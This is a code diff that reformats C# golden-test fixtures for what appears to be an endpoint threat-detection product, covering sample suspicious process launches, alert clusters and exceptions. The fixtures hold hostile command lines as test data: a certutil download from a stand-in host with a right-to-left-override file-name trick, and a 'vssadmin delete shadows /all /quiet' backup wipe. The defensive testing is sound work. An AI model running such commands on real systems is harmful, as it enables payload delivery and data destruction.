@@ -35,19 +35,27 @@ internal static class GoldenDetections
             Reasons = [],
         },
         ["every-sign"] = EverySign,
-        ["suppressed"] = Of(Story) with { IsAlert = false, Exceptions = new ExceptionEvidence(12, [], Exception("exc-0031", "Certutil by the PKI agent")) },
+        ["suppressed"] = Of(Story) with
+        {
+            IsAlert = false,
+            Exceptions = new ExceptionEvidence(12, [], Exception("exc-0031", "Certutil by the PKI agent")),
+        },
         ["near-exceptions"] = Of(Story) with
         {
             Exceptions = new ExceptionEvidence(
                 12,
-                [new(Exception("exc-0031", "Certutil by the PKI agent"), "process.parent.name"), .. Enumerable.Range(1, 9).Select(i => new NearMiss(Exception($"exc-{i}", new string('"', 128)), "expires"))],
+                [
+                    new(Exception("exc-0031", "Certutil by the PKI agent"), "process.parent.name"),
+                    .. Enumerable.Range(1, 9).Select(i => new NearMiss(Exception($"exc-{i}", new string('"', 128)), "expires")),
+                ],
                 null),
         },
         ["import-hash-alone"] = Of(Story with { Child = Story.Child with { Hashes = new FileHashes(ImpHash: new string('4', 32)) } }),
         ["other-scripts"] = Of(Story with
         {
             User = new UserIdentity("Łucja.Żółw", "ΕΤΑΙΡΕΙΑ"),
-            Child = Story.Child with { CommandLine = "certutil.exe -urlcache -f \"http://例え.example/\ud83d\ude00?a=1&b=<x>'\" \u202eexe.doc" },
+            Child =
+                Story.Child with { CommandLine = "certutil.exe -urlcache -f \"http://例え.example/\ud83d\ude00?a=1&b=<x>'\" \u202eexe.doc" },
         }),
         ["command-line-of-32-KB"] = Of(Story with
         {
@@ -57,13 +65,18 @@ internal static class GoldenDetections
     };
 
     /// <summary>Sums over many launches: they have no launch of their own.</summary>
-    public static IReadOnlyDictionary<string, (RuleDefinition Rule, ClusterEvidence Evidence, ExceptionEvidence? Exceptions)> Clusters { get; } =
+    public static IReadOnlyDictionary<string, (
+        RuleDefinition Rule, ClusterEvidence Evidence, ExceptionEvidence? Exceptions)> Clusters
+    { get; } =
         new Dictionary<string, (RuleDefinition, ClusterEvidence, ExceptionEvidence?)>(StringComparer.Ordinal)
         {
             ["cluster-by-host"] = (Rule("suspicious-cluster-by-host"), Cluster(ClusterKind.Host, "web-0201.corp.example"), null),
             ["cluster-by-user"] = (Rule("suspicious-cluster-by-user"), Cluster(ClusterKind.User, @"corp\mara.lind"), null),
             ["cluster-by-parent"] = (Rule("suspicious-cluster-by-parent"), Cluster(ClusterKind.Parent, new string('"', 2_000)), null),
-            ["cluster-suppressed"] = (Rule("suspicious-cluster-by-host"), Cluster(ClusterKind.Host, "build01"), new ExceptionEvidence(3, [], Exception("build-servers", "Builds start what looks bad"))),
+            ["cluster-suppressed"] = (
+                Rule("suspicious-cluster-by-host"),
+                Cluster(ClusterKind.Host, "build01"),
+                new ExceptionEvidence(3, [], Exception("build-servers", "Builds start what looks bad"))),
         };
 
     /// <summary>All names.</summary>
@@ -73,12 +86,24 @@ internal static class GoldenDetections
     {
         get
         {
-            var launch = Story with { Child = Story.Child with { Name = "vssadmin.exe", CommandLine = "vssadmin.exe delete shadows /all /quiet", Path = @"C:\Users\Public\vssadmin.exe" } };
+            var launch = Story with
+            {
+                Child = Story.Child with
+                {
+                    Name = "vssadmin.exe",
+                    CommandLine = "vssadmin.exe delete shadows /all /quiet",
+                    Path = @"C:\Users\Public\vssadmin.exe",
+                },
+            };
             var detection = Of(launch);
             return detection with
             {
                 Rule = Rule("suspicious-high-probability"),
-                Evidence = detection.Evidence with { Hosts = new FleetOccurrence("ws-0417.corp.example", 3, true), Users = new FleetOccurrence(@"corp\mara.lind", 32, false) },
+                Evidence = detection.Evidence with
+                {
+                    Hosts = new FleetOccurrence("ws-0417.corp.example", 3, true),
+                    Users = new FleetOccurrence(@"corp\mara.lind", 32, false),
+                },
                 Quota = new Quota(495_000, 1, 17),
             };
         }
@@ -135,12 +160,14 @@ internal static class GoldenDetections
 
     /// <summary>The bytes of a detection by its name here.</summary>
     public static byte[] Write(string name, DetectionFormat format) => Clusters.TryGetValue(name, out var cluster)
-        ? new ClusterFindingWriter(RuleSet.Shipped.Attack, format, Version).Write(cluster.Rule, cluster.Evidence, isAlert: cluster.Exceptions?.Matched is null, cluster.Exceptions)
+        ? new ClusterFindingWriter(RuleSet.Shipped.Attack, format, Version)
+            .Write(cluster.Rule, cluster.Evidence, isAlert: cluster.Exceptions?.Matched is null, cluster.Exceptions)
         : Write(All[name], format);
 
     public static string Read(string name, DetectionFormat format) => File.ReadAllText(PathOf(name, format)).TrimEnd('\n');
 
-    public static void Rewrite(string name, DetectionFormat format, byte[] bytes) => File.WriteAllBytes(PathOf(name, format), [.. bytes, (byte)'\n']);
+    public static void Rewrite(string name, DetectionFormat format, byte[] bytes) =>
+        File.WriteAllBytes(PathOf(name, format), [.. bytes, (byte)'\n']);
 
     /// <summary>A detection of rule 1 on an event, with counts that no estimator has a part in.</summary>
     public static Detection Of(ProcessEvent e) => new()
@@ -165,7 +192,11 @@ internal static class GoldenDetections
         Model = new ModelIdentity("2026.11.1", new string('a', 64), 2, 0.62),
         Reasons =
         [
-            new("behaviour.web_address", 1.8204) { Text = Start(e.Child.CommandLine), Description = $"web address in {Start(e.Child.CommandLine)}" },
+            new("behaviour.web_address", 1.8204)
+            {
+                Text = Start(e.Child.CommandLine),
+                Description = $"web address in {Start(e.Child.CommandLine)}",
+            },
             new("parent.kind.office", 0.9612) { Description = "Office program as the parent" },
             new("child.known", -0.25) { Description = "known program of Windows" },
         ],
@@ -177,7 +208,9 @@ internal static class GoldenDetections
         HalfLifeDays = 30,
     };
 
-    /// <summary>What breaks an encoder, over and over: quotes, backslashes, lone surrogates, separators that JavaScript minds, control characters.</summary>
+    /// <summary>
+    /// What breaks an encoder, over and over: quotes, backslashes, lone surrogates, separators that JavaScript minds, control characters.
+    /// </summary>
     private static string Hostile(int units)
     {
         const string piece = "\"\\'\ud800<\u2028\u2029&\u0000\u001b\u007f\udc00\u0085\ufeff%\ud83d\ude00é";
